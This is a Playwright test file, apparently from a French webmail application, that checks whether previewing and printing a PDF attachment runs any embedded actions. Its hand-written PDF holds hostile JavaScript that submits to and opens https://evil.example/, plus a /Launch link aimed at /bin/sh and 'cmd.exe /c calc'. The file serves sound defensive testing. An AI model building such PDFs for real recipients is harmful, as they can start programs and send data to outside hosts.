import path from 'node:path';
import { expect, test } from '@playwright/test';
import MailComposer from 'nodemailer/lib/mail-composer';
import { type addImapUser } from '../integration/mail-offline-fixture.js';
import { axeProblems } from './dav.js';
import { findEnglishWords, stripNonProse } from './english-words.js';
import { printThroughChromium } from './print-check.js';
import { newMailbox, profileWithMailAccount } from './courrier-imap.js';
import { SHOTS_DIR, startOstal, type RunningOstal } from './ostal.js';

/**
 * « Aperçu » and « Imprimer » of a PDF attachment (issue 17). The PDF is hostile: its /OpenAction runs JavaScript
 * (an alert and a navigation), a link on the page is a /Launch action and the page has a JavaScript link too. The
 * preview draws the page and runs none of it: no dialog, no navigation, no new window, nothing logged by a script.
 * « Imprimer » is checked as the print output: the page printed to PDF by Chromium, rendered to an image by pdftoppm
 * (poppler-utils) and looked at. A user of its own (test-apercu-…), nobody else's mailbox is touched.
 */
let ostal: RunningOstal;
let user: ReturnType<typeof addImapUser>;
const subject = 'Convocation au conseil municipal';

/** A one-page PDF written by hand (xref offsets computed), with the hostile actions. */
function hostilePdf(): Buffer {
  const content = 'BT /F1 28 Tf 72 700 Td (Convocation au conseil) Tj 0 -40 Td (municipal du 12 janvier) Tj ET';
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript << /Names [(x) 5 0 R] >> >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 6 0 R >> >> /Annots [7 0 R 8 0 R] /AA << /O 5 0 R >> >>',
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    "<< /S /JavaScript /JS (app.alert('pdf-js'); console.log('pdf-js'); this.submitForm('https://evil.example/'); app.launchURL('https://evil.example/', true);) >>",
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    '<< /Type /Annot /Subtype /Link /Rect [72 600 540 760] /Border [0 0 0] /A << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >> >>',
    "<< /Type /Annot /Subtype /Link /Rect [72 500 540 590] /Border [0 0 0] /A << /S /JavaScript /JS (app.alert('lien')) >> >>",
  ];
  let out = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(Buffer.byteLength(out, 'latin1'));
    out += `${i + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xref = Buffer.byteLength(out, 'latin1');
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const o of offsets) out += `${String(o).padStart(10, '0')} 00000 n \n`;
  out += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}

test.beforeAll(async () => {
  user = await newMailbox('test-apercu', async (owner) => [
    await new MailComposer({
      from: 'Secrétariat de la mairie <secretariat@ostal.test>',
      to: owner.email,
      subject,
      text: 'Bonjour,\n\nvous trouverez la convocation en pièce jointe.',
      attachments: [{ filename: 'convocation.pdf', content: hostilePdf(), contentType: 'application/pdf' }],
    })
      .compile()
      .build(),
  ]);
  const profileDir = profileWithMailAccount(user);
  ostal = await startOstal({ profileDir });
});

test.afterAll(async () => {
  await ostal?.stop();
});

test('aperçu et impression d’un PDF hostile : la page s’affiche, rien ne s’exécute', async ({ page, context }) => {
  test.setTimeout(120_000);
  const dialogs: string[] = [];
  const consoleLines: string[] = [];
  const popups: string[] = [];
  const requests: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  page.on('console', (m) => consoleLines.push(m.text()));
  context.on('page', (p) => popups.push(p.url()));
  page.on('request', (r) => requests.push(r.url()));

  await page.goto(ostal.url);
  const row = page.getByTestId('message').filter({ hasText: subject });
  await expect(row).toBeVisible({ timeout: 30_000 });
  await row.click();
  const url = page.url();
  await page.getByTestId('attachment-preview').click();
  const preview = page.getByTestId('pdf-preview');
  await expect(preview).toBeVisible();
  await expect(preview.getByTestId('pdf-page')).toHaveCount(1, { timeout: 20_000 });
  await expect(preview.getByRole('img', { name: 'Page 1 sur 1' })).toBeVisible();
  // The canvas has been drawn on: the text's dark pixels are there.
  const dark = await preview.getByTestId('pdf-page').evaluate((c) => {
    const canvas = c as HTMLCanvasElement;
    const data = canvas.getContext('2d')!.getImageData(0, 0, canvas.width, canvas.height).data;
    let n = 0;
    for (let i = 0; i < data.length; i += 4) if (data[i]! < 100 && data[i + 3]! > 200) n++;
    return n;
  });
  expect(dark).toBeGreaterThan(500);

  // Clicking where the Launch and JavaScript links are does nothing either.
  const box = (await preview.getByTestId('pdf-page').boundingBox())!;
  await page.mouse.click(box.x + box.width / 2, box.y + box.height * 0.15);
  await page.mouse.click(box.x + box.width / 2, box.y + box.height * 0.3);
  await page.waitForTimeout(1_000);
  expect(dialogs).toEqual([]);
  expect(popups).toEqual([]);
  expect(page.url()).toBe(url);
  expect(consoleLines.filter((l) => /pdf-js|lien/.test(l))).toEqual([]);
  expect(requests.filter((r) => r.includes('evil.example'))).toEqual([]);

  await page.screenshot({ path: path.join(SHOTS_DIR, 'apercu-pdf.png'), fullPage: true });
  expect(await axeProblems(page)).toEqual([]);
  expect(findEnglishWords(stripNonProse(await preview.innerText()))).toEqual([]);

  // « Imprimer »: the browser's print of the rendered page (window.print), checked through Chromium's print to PDF.
  const printedText = await printThroughChromium(page, () => preview.getByTestId('pdf-print').click(), 'apercu-pdf-impression.png');
  // The printed sheet shows the page and not the application around it.
  expect(printedText).not.toMatch(/Courrier|Réglages|Imprimer/);

  await page.keyboard.press('Escape');
  await expect(preview).toBeHidden();
  await expect(page.getByTestId('attachment-preview')).toBeFocused();
});
